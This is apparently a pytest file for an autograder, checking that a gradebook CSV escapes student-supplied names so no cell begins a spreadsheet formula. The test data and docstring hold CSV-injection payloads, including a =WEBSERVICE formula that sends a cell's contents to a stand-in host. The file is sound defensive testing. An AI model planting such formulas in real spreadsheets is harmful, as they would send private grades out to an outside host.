"""grades.csv opened in a spreadsheet runs no formula a student named an entry with.

An entry of SUBMISSIONS that is not a student id keeps its own name (and the reason quotes it)
in grades.csv; a name like =HYPERLINK(...) or =WEBSERVICE("http://...?"&B2) would run where the
instructor opens the file (CSV injection), sending the class's grades away.
"""
from __future__ import annotations

import csv
from pathlib import Path

from autograder.bulk.outputs import FORMULA_STARTS, StudentRecord, write_gradebook

NAMES = ['=HYPERLINK("http://example.invalid","x")', "+1+1", "-2+3", "@SUM(A1)",
         "\tcmd", '=WEBSERVICE("http://example.invalid/?"&B2)']


def test_no_cell_of_grades_csv_starts_a_formula(tmp_path: Path):
    record = StudentRecord("alice", 100.0, 100.0, {})
    problems = [{"student": name, "message": f"{name}: not a submission"} for name in NAMES]
    write_gradebook(tmp_path / "grades.csv", [record], problems)
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert sorted(row["student"] for row in rows) == sorted(["alice", *("'" + n for n in NAMES)])
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell


def test_an_ordinary_name_and_reason_are_kept_as_they_are(tmp_path: Path):
    write_gradebook(tmp_path / "grades.csv", [], [{"student": "bob.zip", "message": "corrupt zip"}])
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert (row["student"], row["reason"]) == ("bob.zip", "corrupt zip")
